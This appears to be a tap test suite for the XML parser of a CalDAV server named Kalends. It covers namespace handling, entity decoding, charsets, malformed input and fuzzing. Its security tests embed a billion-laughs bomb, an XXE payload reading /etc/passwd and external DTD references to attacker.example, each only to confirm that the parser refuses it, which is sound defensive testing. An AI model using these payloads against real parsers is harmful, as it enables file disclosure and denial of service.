import t from 'tap';
import type { Test } from 'tap';
import { randomBytes } from 'node:crypto';
import { DavXmlError } from './errors.ts';
import { NS_CALDAV, NS_CS, NS_DAV, NS_ICAL, NS_XML } from './names.ts';
import { charsetOf, decodeXml, parseXml } from './parse.ts';
import type { XmlElement } from './parse.ts';

const throwsDav = (t: Test, fn: () => unknown, re?: RegExp) => {
  try {
    fn();
  } catch (e) {
    t.ok(e instanceof DavXmlError, `DavXmlError, got ${String(e)}`);
    if (re) t.match((e as Error).message, re);
    return e as DavXmlError;
  }
  t.fail('expected a DavXmlError');
  return undefined;
};

t.test('namespace resolution', async (t) => {
  t.test('iOS style: namespaces declared inline, same prefix bound to different namespaces in sibling scopes', async (t) => {
    const body = `<?xml version="1.0" encoding="UTF-8"?>
<A:propfind xmlns:A="DAV:">
  <A:prop>
    <A:add-member/>
    <C:allowed-sharing-modes xmlns:C="http://calendarserver.org/ns/"/>
    <D:autoprovisioned xmlns:D="http://apple.com/ns/ical/"/>
    <B:calendar-description xmlns:B="urn:ietf:params:xml:ns:caldav"/>
    <D:calendar-color xmlns:D="http://apple.com/ns/ical/"/>
    <D:schedule-calendar-transp xmlns:D="urn:ietf:params:xml:ns:caldav"/>
    <E:bulk-requests xmlns:E="http://me.com/_namespace/"/>
  </A:prop>
</A:propfind>`;
    const root = parseXml(body);
    t.equal(root.ns, NS_DAV);
    t.equal(root.name, 'propfind');
    const prop = root.children[0] as XmlElement;
    t.same(
      prop.children.map((c) => [c.ns, c.name]),
      [
        [NS_DAV, 'add-member'],
        [NS_CS, 'allowed-sharing-modes'],
        [NS_ICAL, 'autoprovisioned'],
        [NS_CALDAV, 'calendar-description'],
        [NS_ICAL, 'calendar-color'],
        [NS_CALDAV, 'schedule-calendar-transp'],
        ['http://me.com/_namespace/', 'bulk-requests'],
      ],
    );
    t.same(prop.children[1]?.attrs, {}, 'xmlns declarations are not attributes');
  });

  t.test('DAVx5 style: default namespace DAV: plus CAL prefix', async (t) => {
    const root = parseXml(
      `<?xml version='1.0' encoding='UTF-8' ?><propfind xmlns="DAV:" xmlns:CAL="urn:ietf:params:xml:ns:caldav"><prop><displayname /><CAL:calendar-timezone /></prop></propfind>`,
    );
    t.same([root.ns, root.children[0]?.children.map((c) => c.ns)], [NS_DAV, [NS_DAV, NS_CALDAV]]);
  });

  t.test('default namespace can be undeclared; unprefixed attributes have no namespace', async (t) => {
    const root = parseXml('<a xmlns="urn:x" xmlns:p="urn:p" id="1" p:id="2" xml:lang="en"><b xmlns=""><c/></b><d/></a>');
    t.equal(root.ns, 'urn:x');
    t.same(root.attrs, { id: '1', '{urn:p}id': '2', [`{${NS_XML}}lang`]: 'en' });
    t.same(root.children.map((c) => [c.ns, c.name]), [['', 'b'], ['urn:x', 'd']]);
    t.equal(root.children[0]?.children[0]?.ns, '', 'empty namespace is inherited');
  });

  t.test('inner declarations shadow outer ones only in their scope', async (t) => {
    const root = parseXml('<p:a xmlns:p="urn:1"><p:b xmlns:p="urn:2"><p:c/></p:b><p:d/></p:a>');
    t.same(root.children.map((c) => [c.ns, c.name]), [['urn:2', 'b'], ['urn:1', 'd']]);
    t.equal(root.children[0]?.children[0]?.ns, 'urn:2');
  });

  t.test('unbound prefixes and namespace misuse are refused', async (t) => {
    throwsDav(t, () => parseXml('<D:propfind/>'), /unbound namespace prefix "D"/);
    throwsDav(t, () => parseXml('<a q:x="1"/>'), /unbound namespace prefix "q"/);
    throwsDav(t, () => parseXml('<p:a xmlns:p=""/>'), /empty namespace/);
    throwsDav(t, () => parseXml('<a xmlns:xmlns="urn:x"/>'));
    throwsDav(t, () => parseXml('<a xmlns:xml="urn:x"/>'));
    throwsDav(t, () => parseXml('<a:b:c xmlns:a="urn:a"/>'), /qualified name/);
    throwsDav(t, () => parseXml('<a xmlns:p="urn:1" xmlns:q="urn:1" p:x="1" q:x="2"/>'), /duplicate attribute/);
  });

  t.test('names that are JavaScript object keys are ordinary names', async (t) => {
    const root = parseXml('<__proto__ constructor="1" __proto__="2"><toString/></__proto__>');
    t.equal(root.name, '__proto__');
    t.equal(Object.getPrototypeOf(root.attrs), Object.prototype);
    t.same(Object.keys(root.attrs), ['constructor', '__proto__']);
    t.equal(root.attrs['__proto__'], '2');
    t.equal(root.children[0]?.name, 'toString');
  });
});

t.test('text content', async (t) => {
  t.test('CRLF, CDATA, character references and predefined entities are preserved exactly', async (t) => {
    const tz = 'BEGIN:VCALENDAR\r\nPRODID:-//Example//EN\r\nBEGIN:VTIMEZONE\r\nTZID:Europe/Berlin\r\nEND:VTIMEZONE\r\nEND:VCALENDAR\r\n';
    const root = parseXml(
      `<D:propertyupdate xmlns:D="DAV:" xmlns:C="urn:ietf:params:xml:ns:caldav"><D:set><D:prop>` +
        `<C:calendar-timezone>${tz}</C:calendar-timezone>` +
        `<C:calendar-description><![CDATA[Sales & <marketing>\r\n]]> &#x41;&#66;&lt;&gt;&amp;&apos;&quot;&#x1F4C5;</C:calendar-description>` +
        `<D:displayname>  spaced  </D:displayname>` +
        `</D:prop></D:set></D:propertyupdate>`,
    );
    const props = root.children[0]?.children[0]?.children ?? [];
    t.equal(props[0]?.text, tz, 'calendar-timezone keeps CRLF');
    t.equal(props[1]?.text, 'Sales & <marketing>\r\n AB<>&\'"📅');
    t.equal(props[2]?.text, '  spaced  ', 'leaf text is not trimmed');
  });

  t.test('&#13; yields CR; attribute whitespace is normalised as XML requires', async (t) => {
    const root = parseXml('<a v="x\ty\r\nz&#10;">l1&#13;&#10;l2</a>');
    t.equal(root.text, 'l1\r\nl2');
    t.equal(root.attrs['v'], 'x y z\n');
  });

  t.test('whitespace-only text between elements is ignored, mixed text is kept', async (t) => {
    const root = parseXml('<a>\r\n  <b/>\n\t<c> </c>\n</a>');
    t.equal(root.text, '');
    t.equal(root.children[1]?.text, ' ', 'whitespace-only leaf text is kept');
    t.equal(parseXml('<a>x<b/>y</a>').text, 'xy');
  });

  t.test('comments and processing instructions are skipped', async (t) => {
    const root = parseXml('<?xml version="1.0"?><!-- c --><?pi data?><a><!-- inside --><?pi x?>v</a><!-- after -->\n');
    t.same(root, { ns: '', name: 'a', attrs: {}, children: [], text: 'v' });
  });

  t.test('undefined entities and invalid references are refused', async (t) => {
    throwsDav(t, () => parseXml('<a>&nbsp;</a>'), /undefined entity &nbsp;/);
    throwsDav(t, () => parseXml('<a>&#0;</a>'), /not an allowed XML character/);
    throwsDav(t, () => parseXml('<a>&#xD800;</a>'));
    throwsDav(t, () => parseXml('<a>&#x110000;</a>'));
    throwsDav(t, () => parseXml('<a>& b</a>'));
    throwsDav(t, () => parseXml('<a v="&foo;"/>'));
    throwsDav(t, () => parseXml('<a>\u0001</a>'), /U\+0001 is not allowed/);
  });
});

t.test('security', async (t) => {
  t.test('billion laughs is refused before any expansion', async (t) => {
    const bomb = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<D:propfind xmlns:D="DAV:"><D:prop><D:displayname>&lol3;</D:displayname></D:prop></D:propfind>`;
    throwsDav(t, () => parseXml(bomb), /DOCTYPE declarations are not allowed/);
  });

  t.test('external entities (XXE) and parameter entities are refused', async (t) => {
    throwsDav(t, () => parseXml('<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><D:propfind xmlns:D="DAV:">&xxe;</D:propfind>'), /DOCTYPE/);
    throwsDav(t, () => parseXml('<!DOCTYPE foo SYSTEM "http://attacker.example/evil.dtd"><foo/>'), /DOCTYPE/);
    throwsDav(t, () => parseXml('<!DOCTYPE foo [<!ENTITY % p SYSTEM "http://attacker.example/x">%p;]><foo/>'), /DOCTYPE/);
    throwsDav(t, () => parseXml('<a><!ENTITY x "y"></a>'), /ENTITY declarations are not allowed/);
    throwsDav(t, () => parseXml('<a>&xxe;</a>'), /undefined entity/);
    // A DOCTYPE anywhere after the root is also refused, and inside CDATA it is just text.
    throwsDav(t, () => parseXml('<a/><!DOCTYPE a>'));
    t.equal(parseXml('<a><![CDATA[<!DOCTYPE x><!ENTITY y "z">]]></a>').text, '<!DOCTYPE x><!ENTITY y "z">');
  });

  t.test('depth bomb is refused without recursion', async (t) => {
    const deep = (n: number) => '<a>'.repeat(n) + '</a>'.repeat(n);
    t.equal(parseXml(deep(64)).name, 'a', 'default limit admits 64 levels');
    throwsDav(t, () => parseXml(deep(65)), /deeper than 64/);
    throwsDav(t, () => parseXml(deep(200_000)), /deeper than 64/);
    throwsDav(t, () => parseXml('<a>'.repeat(200_000)), /deeper than 64/);
    throwsDav(t, () => parseXml(deep(11), { maxDepth: 10 }), /deeper than 10/);
  });

  t.test('element count and size limits', async (t) => {
    const many = `<a>${'<b/>'.repeat(1000)}</a>`;
    t.equal(parseXml(many).children.length, 1000);
    throwsDav(t, () => parseXml(many, { maxElements: 500 }), /more than 500 elements/);
    const e = throwsDav(t, () => parseXml(`<a>${'x'.repeat(2000)}</a>`, { maxBytes: 1000 }), /exceeds 1000 bytes/);
    t.equal(e?.status, 413);
    throwsDav(t, () => parseXml(Buffer.alloc(2000, 0x20), { maxBytes: 1000 }), /exceeds/);
  });
});

// A quadratic parser needs hours on these bodies; a linear one seconds even on a
// loaded machine. The generous timeout is the guard: no wall-clock figure is asserted.
t.test('large bodies parse in linear time', { timeout: 120_000 }, async (t) => {
  const attrs = Array.from({ length: 100_000 }, (_, i) => ` a${i}="${i}"`).join('');
  t.equal(Object.keys(parseXml(`<x${attrs}/>`).attrs).length, 100_000);
  const decls = Array.from({ length: 5_000 }, (_, i) => ` xmlns:p${i}="urn:${i}"`).join('');
  t.equal(parseXml(`<r${decls}>${'<p4999:c xmlns:q="urn:q"/>'.repeat(50_000)}</r>`).children.length, 50_000);
  t.equal(parseXml(`<a>${'&amp;x'.repeat(500_000)}</a>`).text.length, 1_000_000);
});

t.test('byte input', async (t) => {
  t.equal(parseXml(Buffer.from('\ufeff<a>é</a>', 'utf8')).text, 'é', 'UTF-8 with BOM');
  t.equal(parseXml(Buffer.from('<a>é€</a>', 'utf8')).text, 'é€');
  t.equal(parseXml(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<a>é</a>', 'utf16le')])).text, 'é', 'UTF-16LE with BOM');
  t.equal(parseXml(Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><a>\xe9</a>', 'latin1')).text, 'é');
  throwsDav(t, () => parseXml(Buffer.from([0x3c, 0x61, 0x3e, 0xc3, 0x28, 0x3c, 0x2f, 0x61, 0x3e])), /not valid UTF-8/);
  throwsDav(t, () => parseXml(Buffer.from('<?xml version="1.0" encoding="EBCDIC"?><a/>')), /"EBCDIC", which Kalends does not read/);
  throwsDav(t, () => parseXml(Buffer.from('<?xml version="1.0" encoding="US-ASCII"?><a>\xe9</a>', 'latin1')), /US-ASCII/);
});

t.test('the media type charset names the encoding; declarations that disagree are refused', async (t) => {
  t.equal(charsetOf('application/xml; charset="UTF-8"'), 'utf-8');
  t.equal(charsetOf('text/xml'), undefined);
  t.equal(decodeXml(Buffer.from('<a>\xe9</a>', 'latin1'), 'iso-8859-1'), '<a>é</a>');
  t.equal(decodeXml(Buffer.from('<?xml version="1.0" encoding="us-ascii"?><a/>'), 'utf-8'), '<?xml version="1.0" encoding="us-ascii"?><a/>', 'ASCII is UTF-8');
  throwsDav(t, () => decodeXml(Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><a>\xe9</a>', 'latin1'), 'utf-8'), /charset says utf-8 but the XML declaration says ISO-8859-1/);
  throwsDav(t, () => decodeXml(Buffer.from('\ufeff<a>é</a>'), 'iso-8859-1'), /byte order mark/);
  throwsDav(t, () => decodeXml(Buffer.from('<a/>'), 'shift_jis'), /"shift_jis"/);
  throwsDav(t, () => parseXml(42 as unknown as string), /string or a Buffer/);
});

t.test('malformed documents are refused with DavXmlError', async (t) => {
  const bad = [
    '', '   ', 'text', '<', '<a', '<a>', '<a></b>', '<a><b></a></b>', '<a/><b/>', '<a/>trailing', '<a b=1/>', '<a b="1" b="2"/>',
    '<a b="<"/>', '<a b="1"c="2"/>', '<1a/>', '<a>]]></a>', '<a><!-- x -- y --></a>', '<a><![CDATA[x</a>', '<?xml version="1.0"?>',
    ' <?xml version="1.0"?><a/>', '<a><?xml version="1.0"?></a>', '<a></a >x', '</a>', '<a b="1"', '<a/ >', '<a xmlns:="x"/>',
    '<?xml version="2.0"?><a/>', '<a>&#x;</a>', '<a>&#99999999999;</a>', '<a>&amp</a>', '<!--x--->' + '<a/>',
  ];
  for (const b of bad) throwsDav(t, () => parseXml(b));
  t.equal(parseXml('<a ></a >').name, 'a', 'whitespace before > is fine');
});

t.test('fuzz: no input makes anything but DavXmlError escape', async (t) => {
  const samples = [
    `<?xml version="1.0" encoding="utf-8" ?><C:calendar-query xmlns:D="DAV:" xmlns:C="urn:ietf:params:xml:ns:caldav"><D:prop><D:getetag/><C:calendar-data/></D:prop><C:filter><C:comp-filter name="VCALENDAR"><C:comp-filter name="VEVENT"><C:time-range start="20060104T000000Z" end="20060105T000000Z"/></C:comp-filter></C:comp-filter></C:filter></C:calendar-query>`,
    `<A:propertyupdate xmlns:A="DAV:"><A:set><A:prop><B:calendar-color xmlns:B="http://apple.com/ns/ical/" symbolic-color="red">#FF2968FF</B:calendar-color><x:dead xmlns:x="urn:x" a="1"><![CDATA[c]]>&amp;&#x41;<!--c--><?p?></x:dead></A:prop></A:set></A:propertyupdate>`,
  ];
  let other = 0;
  let count = 0;
  const attempt = (input: string | Buffer) => {
    count++;
    try {
      parseXml(input);
    } catch (e) {
      if (!(e instanceof DavXmlError)) other++;
    }
  };
  // Truncations at every position.
  for (const s of samples) for (let i = 0; i <= s.length; i++) attempt(s.slice(0, i));
  // Random mutations of valid documents.
  const alphabet = ['<', '>', '/', '&', ';', '"', "'", '=', ':', '!', '?', '[', ']', '-', '#', 'x', ' ', '\r', '\0', '\uD800', 'é'];
  let seed = 42;
  const rnd = (n: number) => ((seed = (seed * 1103515245 + 12345) & 0x7fffffff) % n);
  for (let k = 0; k < 3000; k++) {
    const s = samples[k % samples.length] as string;
    const chars = [...s];
    for (let m = 0, n = 1 + rnd(4); m < n; m++) {
      const pos = rnd(chars.length);
      const op = rnd(3);
      if (op === 0) chars.splice(pos, 1);
      else if (op === 1) chars.splice(pos, 0, alphabet[rnd(alphabet.length)] as string);
      else chars[pos] = alphabet[rnd(alphabet.length)] as string;
    }
    attempt(chars.join(''));
  }
  // Random bytes, as Buffer and as latin1 string.
  for (let k = 0; k < 2000; k++) {
    const b = randomBytes(1 + (k % 200));
    if (k % 3 === 0) b[0] = 0x3c;
    attempt(b);
    attempt(b.toString('latin1'));
  }
  t.equal(other, 0, `all ${count} fuzzed inputs either parsed or threw DavXmlError`);
});
